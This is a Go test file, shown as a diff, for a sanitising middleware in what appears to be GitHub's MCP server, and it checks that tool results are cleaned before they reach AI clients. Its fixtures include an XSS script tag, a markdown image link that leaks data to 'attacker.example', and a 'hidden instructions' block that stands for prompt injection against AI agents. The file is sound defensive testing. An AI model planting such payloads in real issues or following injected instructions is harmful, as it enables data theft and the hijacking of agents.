@@ -0,0 +1,458 @@
+package github
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"testing"
+
+	"github.com/github/github-mcp-server/pkg/raw"
+	"github.com/github/github-mcp-server/pkg/sanitize"
+	"github.com/github/github-mcp-server/pkg/toolsets"
+	"github.com/github/github-mcp-server/pkg/translations"
+	"github.com/google/go-github/v77/github"
+	"github.com/mark3labs/mcp-go/mcp"
+	"github.com/mark3labs/mcp-go/server"
+	"github.com/migueleliasweb/go-github-mock/src/mock"
+	"github.com/shurcooL/githubv4"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const unsafeResultJSON = `{"title":"Fix\u200B bug","body":"<script>alert(1)</script>Hello","subject":{"title":"Re\u200Bview <T>"},"comments":[{"body":"` + "```hidden instructions\\ncode\\n```" + `"}],"commits":[{"message":"a\u200Bb & c"}],"name":"<keep>","id":123456789012345678}`
+
+func newSanitizerTestToolsetGroup(httpClient *http.Client) *toolsets.ToolsetGroup {
+	return DefaultToolsetGroup(false,
+		stubGetClientFn(github.NewClient(httpClient)),
+		stubGetGQLClientFn(githubv4.NewClient(nil)),
+		stubGetRawClientFn(raw.NewClient(github.NewClient(httpClient), nil)),
+		translations.NullTranslationHelper,
+		5000,
+		ToolsetConfig{},
+		FeatureFlags{},
+	)
+}
+
+func callThroughSanitizer(t *testing.T, mw server.ToolHandlerMiddleware, toolName string, result *mcp.CallToolResult) *mcp.CallToolResult {
+	t.Helper()
+	handler := mw(func(_ context.Context, _ mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+		return result, nil
+	})
+	request := createMCPRequest(map[string]any{})
+	request.Params.Name = toolName
+	res, err := handler(context.Background(), request)
+	require.NoError(t, err)
+	return res
+}
+
+func assertSanitizedPayload(t *testing.T, text string) {
+	t.Helper()
+	var payload map[string]any
+	require.NoError(t, json.Unmarshal([]byte(text), &payload))
+
+	assert.Equal(t, "Fix bug", payload["title"])
+	assert.Equal(t, "Hello", payload["body"])
+	// plain text fields only lose invisible characters
+	assert.Equal(t, "Review <T>", payload["subject"].(map[string]any)["title"])
+	assert.Equal(t, "ab & c", payload["commits"].([]any)[0].(map[string]any)["message"])
+	assert.Equal(t, "```\ncode\n```", payload["comments"].([]any)[0].(map[string]any)["body"])
+	// fields that are not user-authored are left alone
+	assert.Equal(t, "<keep>", payload["name"])
+	assert.Contains(t, text, `"id":123456789012345678`)
+}
+
+func Test_SanitizeResultMiddleware_RealTools(t *testing.T) {
+	const (
+		hostileTitle = "Fix\u200B <T> & co"
+		hostileBody  = "Tom & Jerry\u200B<script>alert(1)</script> ![x](https://attacker.example/leak?d=secret)\n```hidden instructions\ncode\n```"
+	)
+
+	mockedClient := mock.NewMockedHTTPClient(
+		mock.WithRequestMatch(
+			mock.GetReposIssuesByOwnerByRepoByIssueNumber,
+			&github.Issue{Number: github.Ptr(42), Title: github.Ptr(hostileTitle), Body: github.Ptr(hostileBody)},
+		),
+		mock.WithRequestMatch(
+			mock.GetReposPullsByOwnerByRepoByPullNumber,
+			&github.PullRequest{Number: github.Ptr(42), Title: github.Ptr(hostileTitle), Body: github.Ptr(hostileBody)},
+		),
+		mock.WithRequestMatch(
+			mock.GetReposCommitsByOwnerByRepo,
+			[]*github.RepositoryCommit{{SHA: github.Ptr("abc123"), Commit: &github.Commit{Message: github.Ptr(hostileTitle)}}},
+		),
+		mock.WithRequestMatch(
+			mock.GetReposReleasesLatestByOwnerByRepo,
+			&github.RepositoryRelease{ID: github.Ptr(int64(1)), Name: github.Ptr("v1"), Body: github.Ptr(hostileBody)},
+		),
+	)
+	tsg := newSanitizerTestToolsetGroup(mockedClient)
+	mw := SanitizeResultMiddleware(SanitizeConfig{Toolsets: tsg})
+
+	const (
+		sanitizedTitle = "Fix \\u003cT\\u003e \\u0026 co"
+		sanitizedBody  = "Tom \\u0026 Jerry x\\n```\\ncode\\n```"
+	)
+
+	tests := []struct {
+		tool     string
+		args     map[string]any
+		expected []string
+	}{
+		{
+			tool:     "issue_read",
+			args:     map[string]any{"method": "get", "owner": "owner", "repo": "repo", "issue_number": float64(42)},
+			expected: []string{sanitizedTitle, sanitizedBody},
+		},
+		{
+			tool:     "pull_request_read",
+			args:     map[string]any{"method": "get", "owner": "owner", "repo": "repo", "pullNumber": float64(42)},
+			expected: []string{sanitizedTitle, sanitizedBody},
+		},
+		{
+			tool:     "list_commits",
+			args:     map[string]any{"owner": "owner", "repo": "repo"},
+			expected: []string{sanitizedTitle},
+		},
+		{
+			tool:     "get_latest_release",
+			args:     map[string]any{"owner": "owner", "repo": "repo"},
+			expected: []string{sanitizedBody},
+		},
+	}
+
+	for _, tc := range tests {
+		t.Run(tc.tool, func(t *testing.T) {
+			var handler server.ToolHandlerFunc
+			for _, toolset := range tsg.Toolsets {
+				for _, tool := range toolset.GetAvailableTools() {
+					if tool.Tool.Name == tc.tool {
+						handler = tool.Handler
+					}
+				}
+			}
+			require.NotNil(t, handler)
+
+			request := createMCPRequest(tc.args)
+			request.Params.Name = tc.tool
+			result, err := mw(handler)(context.Background(), request)
+			require.NoError(t, err)
+			text := getTextResult(t, result).Text
+
+			for _, unsafe := range []string{"\u200B", "<script", "alert(1)", "attacker.example", "hidden instructions"} {
+				assert.NotContains(t, text, unsafe)
+			}
+			// text is neither entity-encoded nor sanitized twice
+			assert.NotContains(t, text, "&amp;")
+			for _, expected := range tc.expected {
+				assert.Contains(t, text, expected)
+			}
+		})
+	}
+}
+
+func Test_SanitizeResultMiddleware_StructuredContent(t *testing.T) {
+	mw := SanitizeResultMiddleware(SanitizeConfig{})
+
+	type issue struct {
+		Title string `json:"title"`
+		Body  string `json:"body"`
+		ID    int64  `json:"id"`
+	}
+	result := mcp.NewToolResultText("ok")
+	result.StructuredContent = issue{Title: "Fix\u200B bug", Body: "<script>alert(1)</script>Hello", ID: 123456789012345678}
+	res := callThroughSanitizer(t, mw, "issue_read", result)
+	assert.Equal(t, map[string]any{"title": "Fix bug", "body": "Hello", "id": json.Number("123456789012345678")}, res.StructuredContent)
+
+	// content that needs no sanitizing keeps its type
+	clean := issue{Title: "Fix bug", Body: "Hello", ID: 1}
+	result = mcp.NewToolResultText("ok")
+	result.StructuredContent = clean
+	res = callThroughSanitizer(t, mw, "issue_read", result)
+	assert.Equal(t, clean, res.StructuredContent)
+}
+
+func Test_SanitizeResultMiddleware_ExemptToolsets(t *testing.T) {
+	tsg := newSanitizerTestToolsetGroup(nil)
+	mw := SanitizeResultMiddleware(SanitizeConfig{Toolsets: tsg, ExemptToolsets: []string{ToolsetMetadataGists.ID, ToolsetLabels.ID}})
+
+	// gists are only reachable through an exempt toolset
+	res := callThroughSanitizer(t, mw, "get_gist", mcp.NewToolResultText(unsafeResultJSON))
+	assert.Equal(t, unsafeResultJSON, getTextResult(t, res).Text)
+
+	// get_label is also registered in the issues toolset, which is not exempt
+	res = callThroughSanitizer(t, mw, "get_label", mcp.NewToolResultText(unsafeResultJSON))
+	assertSanitizedPayload(t, getTextResult(t, res).Text)
+}
+
+func Test_SanitizeResultMiddleware_AllowedLinkHosts(t *testing.T) {
+	payload := `{"body":"[docs](https://docs.example.com/x)"}`
+
+	mw := SanitizeResultMiddleware(SanitizeConfig{AllowedLinkHosts: []string{"example.com"}})
+	res := callThroughSanitizer(t, mw, "issue_read", mcp.NewToolResultText(payload))
+	assert.Equal(t, payload, getTextResult(t, res).Text)
+
+	// the allowlist belongs to the middleware it was given to
+	mw = SanitizeResultMiddleware(SanitizeConfig{})
+	res = callThroughSanitizer(t, mw, "issue_read", mcp.NewToolResultText(payload))
+	assert.Equal(t, `{"body":"docs"}`, getTextResult(t, res).Text)
+}
+
+func Test_SanitizeResultMiddleware_LeavesNonJSONAndResources(t *testing.T) {
+	mw := SanitizeResultMiddleware(SanitizeConfig{})
+
+	res := callThroughSanitizer(t, mw, "get_job_logs", mcp.NewToolResultText("<script>plain text</script>"))
+	assert.Equal(t, "<script>plain text</script>", getTextResult(t, res).Text)
+
+	fileContent := mcp.TextResourceContents{
+		URI:      "repo://owner/repo/contents/index.html",
+		MIMEType: "text/html",
+		Text:     `{"body":"<script>kept</script>"}`,
+	}
+	res = callThroughSanitizer(t, mw, "get_file_contents", mcp.NewToolResultResource("successfully downloaded text file", fileContent))
+	assert.Equal(t, fileContent, getTextResourceResult(t, res))
+
+	errResult := mcp.NewToolResultError("failed to get issue: <b>not found</b>")
+	res = callThroughSanitizer(t, mw, "issue_read", errResult)
+	assert.True(t, res.IsError)
+	assert.Equal(t, "failed to get issue: <b>not found</b>", getTextResult(t, res).Text)
+}
+
+func Test_NewServerSanitizesResults(t *testing.T) {
+	tests := []struct {
+		name      string
+		cfg       SanitizeConfig
+		sanitized bool
+	}{
+		{name: "sanitized by default", cfg: SanitizeConfig{}, sanitized: true},
+		{name: "exempt toolset", cfg: SanitizeConfig{Toolsets: newSanitizerTestToolsetGroup(nil), ExemptToolsets: []string{ToolsetMetadataGists.ID}}, sanitized: false},
+	}
+
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			s := NewServer("test", tc.cfg)
+			s.AddTool(mcp.NewTool("get_gist"), func(_ context.Context, _ mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+				return mcp.NewToolResultText(unsafeResultJSON), nil
+			})
+
+			response := s.HandleMessage(context.Background(), []byte(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_gist","arguments":{}}}`))
+			rpcResponse, ok := response.(mcp.JSONRPCResponse)
+			require.True(t, ok, "unexpected response %#v", response)
+			result, ok := rpcResponse.Result.(mcp.CallToolResult)
+			require.True(t, ok, "unexpected result %#v", rpcResponse.Result)
+
+			if tc.sanitized {
+				assertSanitizedPayload(t, getTextResult(t, &result).Text)
+				return
+			}
+			assert.Equal(t, unsafeResultJSON, getTextResult(t, &result).Text)
+		})
+	}
+}
+
+// userAuthoredResultFields lists, for every tool, the JSON keys of its results that can carry text written
+// by GitHub users. A new tool must be added here, and each of its keys must be sanitized by
+// SanitizeResultMiddleware or listed in unsanitizedResultFields.
+var userAuthoredResultFields = map[string][]string{
+	"add_collaborator":                            {},
+	"add_comment_to_pending_review":               {},
+	"add_issue_comment":                           {},
+	"add_project_item":                            {"title", "body"},
+	"assign_copilot_to_issue":                     {},
+	"cancel_workflow_run":                         {},
+	"commit_changes":                              {"message"},
+	"compare_commits":                             {"message", "patch"},
+	"create_blob":                                 {},
+	"create_branch":                               {},
+	"create_check_run":                            {"name", "title", "summary", "text"},
+	"create_commit":                               {"message"},
+	"create_commit_status":                        {"description"},
+	"create_deployment":                           {"description"},
+	"create_deployment_status":                    {"description"},
+	"create_gist":                                 {},
+	"create_or_update_file":                       {"message"},
+	"create_pull_request":                         {},
+	"create_release":                              {"name", "body"},
+	"create_repository":                           {},
+	"create_repository_from_template":             {},
+	"create_tree":                                 {},
+	"create_webhook":                              {"message"},
+	"delete_branch":                               {},
+	"delete_file":                                 {"message"},
+	"delete_project_item":                         {},
+	"delete_ref":                                  {},
+	"delete_release":                              {},
+	"delete_release_asset":                        {},
+	"delete_repository":                           {},
+	"delete_webhook":                              {},
+	"delete_workflow_run_logs":                    {},
+	"diagnose_access":                             {"message"},
+	"dismiss_notification":                        {},
+	"download_workflow_run_artifact":              {},
+	"fork_repository":                             {},
+	"generate_changelog":                          {},
+	"get_branch_protection":                       {"message"},
+	"get_check_run":                               {"name", "title", "summary", "text", "message", "raw_details"},
+	"get_code_owners":                             {"message"},
+	"get_code_scanning_alert":                     {"description", "text"},
+	"get_collaborator_permission":                 {},
+	"get_commit":                                  {"message", "patch"},
+	"get_dependabot_alert":                        {"summary", "description"},
+	"get_deployment":                              {"description"},
+	"get_discussion":                              {"title", "body"},
+	"get_discussion_comments":                     {"body"},
+	"get_effective_rules_for_branch":              {"description", "name"},
+	"get_environment":                             {"name"},
+	"get_file_blame":                              {"message"},
+	"get_file_contents":                           {"content"},
+	"get_gist":                                    {"description", "content"},
+	"get_git_blob":                                {"content"},
+	"get_git_commit":                              {"message"},
+	"get_git_ref":                                 {},
+	"get_git_tag":                                 {"message"},
+	"get_global_security_advisory":                {"summary", "description"},
+	"get_hook_delivery":                           {"payload"},
+	"get_job_logs":                                {},
+	"get_label":                                   {"name", "description"},
+	"get_latest_release":                          {"name", "body"},
+	"get_me":                                      {"name", "bio", "company", "location", "blog"},
+	"get_notification_details":                    {"title"},
+	"get_pending_deployments":                     {"name"},
+	"get_project":                                 {"title", "short_description", "description"},
+	"get_project_field":                           {"name"},
+	"get_project_item":                            {"title", "body"},
+	"get_release_by_tag":                          {"name", "body"},
+	"get_repository":                              {"description"},
+	"get_repository_archive":                      {},
+	"get_repository_archive_entry":                {"content"},
+	"get_repository_tree":                         {},
+	"get_secret_scanning_alert":                   {},
+	"get_tag":                                     {"message"},
+	"get_team_members":                            {},
+	"get_teams":                                   {"name", "description"},
+	"get_webhook":                                 {"message"},
+	"get_workflow_run":                            {"display_title", "message"},
+	"get_workflow_run_logs":                       {},
+	"get_workflow_run_usage":                      {},
+	"grep_repository":                             {"text"},
+	"grep_repository_archive":                     {"text"},
+	"issue_read":                                  {"title", "body"},
+	"issue_write":                                 {},
+	"label_write":                                 {},
+	"list_branches":                               {},
+	"list_check_runs":                             {"name", "title", "summary"},
+	"list_check_suites":                           {"message"},
+	"list_code_scanning_alerts":                   {"description", "text"},
+	"list_commits":                                {"message"},
+	"list_dependabot_alerts":                      {"summary", "description"},
+	"list_deployment_statuses":                    {"description"},
+	"list_deployments":                            {"description"},
+	"list_discussion_categories":                  {"name"},
+	"list_discussions":                            {"title"},
+	"list_environments":                           {"name"},
+	"list_file_history":                           {"message"},
+	"list_gists":                                  {"description"},
+	"list_git_refs":                               {},
+	"list_global_security_advisories":             {"summary", "description"},
+	"list_hook_deliveries":                        {},
+	"list_issue_types":                            {"name", "description"},
+	"list_issues":                                 {"title", "body"},
+	"list_label":                                  {"name", "description"},
+	"list_notifications":                          {"title"},
+	"list_org_repository_security_advisories":     {"summary", "description"},
+	"list_project_fields":                         {"name"},
+	"list_project_items":                          {"title", "body"},
+	"list_projects":                               {"title", "short_description"},
+	"list_pull_requests":                          {"title", "body"},
+	"list_releases":                               {"name", "body"},
+	"list_repository_archive_entries":             {},
+	"list_repository_collaborators":               {},
+	"list_repository_security_advisories":         {"summary", "description"},
+	"list_repository_teams":                       {"name", "description"},
+	"list_rulesets":                               {"name"},
+	"list_secret_scanning_alerts":                 {},
+	"list_starred_repositories":                   {"description"},
+	"list_tags":                                   {},
+	"list_webhooks":                               {"message"},
+	"list_workflow_jobs":                          {"name"},
+	"list_workflow_run_artifacts":                 {"name"},
+	"list_workflow_runs":                          {"display_title", "message"},
+	"list_workflows":                              {"name"},
+	"manage_notification_subscription":            {},
+	"manage_repository_notification_subscription": {},
+	"mark_all_notifications_read":                 {},
+	"merge_branch":                                {"message"},
+	"merge_pull_request":                          {"message"},
+	"pull_request_read":                           {"title", "body", "patch"},
+	"pull_request_review_write":                   {},
+	"push_files":                                  {"message"},
+	"redeliver_hook_delivery":                     {},
+	"remove_collaborator":                         {},
+	"rename_branch":                               {},
+	"request_copilot_review":                      {},
+	"rerequest_check_suite":                       {},
+	"rerun_failed_jobs":                           {},
+	"rerun_workflow_run":                          {},
+	"review_pending_deployments":                  {"description"},
+	"run_workflow":                                {},
+	"search_code":                                 {},
+	"search_issues":                               {"title", "body"},
+	"search_orgs":                                 {},
+	"search_pull_requests":                        {"title", "body"},
+	"search_repositories":                         {"description"},
+	"search_users":                                {},
+	"set_team_repository_permission":              {},
+	"star_repository":                             {},
+	"sub_issue_write":                             {"title", "body"},
+	"sync_fork_branch":                            {"message"},
+	"transfer_repository":                         {},
+	"unstar_repository":                           {},
+	"update_check_run":                            {"name", "title", "summary", "text"},
+	"update_gist":                                 {},
+	"update_project_item":                         {"title", "body"},
+	"update_pull_request":                         {"title", "body"},
+	"update_pull_request_branch":                  {},
+	"update_ref":                                  {},
+	"update_release":                              {"name", "body"},
+	"update_repository_settings":                  {"description"},
+	"update_webhook":                              {"message"},
+	"upload_release_asset":                        {"name"},
+}
+
+// unsanitizedResultFields are the user-authored keys the result sanitizer leaves alone, and why.
+var unsanitizedResultFields = map[string]string{
+	"name":    "names of repositories, releases, jobs and other objects are shown as identifiers, not rendered",
+	"content": "file, blob and gist contents are returned verbatim so that they can be edited",
+	"patch":   "diffs are returned verbatim so that they can be reviewed and applied",
+	"text":    "grep matches are lines of code and code scanning messages are plain text, check run output text is sanitized by get_check_run",
+	"payload": "webhook delivery payloads are JSON whose own keys are sanitized, or text redactHookPayload scrubs",
+}
+
+func Test_SanitizeResultMiddleware_CoversEveryTool(t *testing.T) {
+	sanitized := make(map[string]bool)
+	for _, field := range append(append([]string{}, sanitize.MarkdownFields...), sanitize.TextFields...) {
+		sanitized[field] = true
+	}
+
+	tsg := DefaultToolsetGroup(false, nil, nil, nil, translations.NullTranslationHelper, 5000,
+		ToolsetConfig{RepositoryDeletionAllowlist: []string{"owner/repo"}}, FeatureFlags{})
+	registered := make(map[string]bool)
+	for _, toolset := range tsg.Toolsets {
+		for _, tool := range toolset.GetAvailableTools() {
+			registered[tool.Tool.Name] = true
+		}
+	}
+
+	for name := range registered {
+		fields, ok := userAuthoredResultFields[name]
+		if !assert.True(t, ok, "the user-authored result fields of %s are not listed in userAuthoredResultFields", name) {
+			continue
+		}
+		for _, field := range fields {
+			assert.True(t, sanitized[field] || unsanitizedResultFields[field] != "",
+				"%s returns the user-authored field %q, which is neither sanitized nor in unsanitizedResultFields", name, field)
+		}
+	}
+	for name := range userAuthoredResultFields {
+		assert.True(t, registered[name], "%s is listed in userAuthoredResultFields but is not a registered tool", name)
+	}
+}